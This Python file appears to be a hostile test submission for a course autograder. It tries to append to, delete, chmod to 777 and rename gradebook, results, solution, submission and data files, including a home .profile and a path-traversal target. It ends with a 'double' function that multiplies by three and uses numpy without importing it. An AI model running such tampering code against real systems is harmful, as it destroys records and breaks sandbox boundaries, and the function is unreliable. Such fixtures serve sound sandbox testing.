"""Writes wherever a grader keeps something."""
import os

for path in (
    "@COURSE@/workspace/gradebook.db",
    "@COURSE@/workspace/results/tiny/victim.json",
    "@COURSE@/workspace/results/new.json",
    "@COURSE@/workspace/submitted/victim/tiny/tiny.ipynb",
    "@COURSE@/solutions/tiny/tiny.py",
    "@COURSE@/labs/tiny/tiny.ipynb",
    "@COURSE@/data/music/tune.txt",
    "@COURSE@/data/new.txt",
    "@COURSE@/../home/.profile",
    "../../../gradebook.db",
):
    for act in (lambda p: open(p, "a").write("x"), os.remove, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + "x")):
        try:
            act(path)
        except OSError:
            pass


def double(x):
    return np.asarray(x) * 3.0
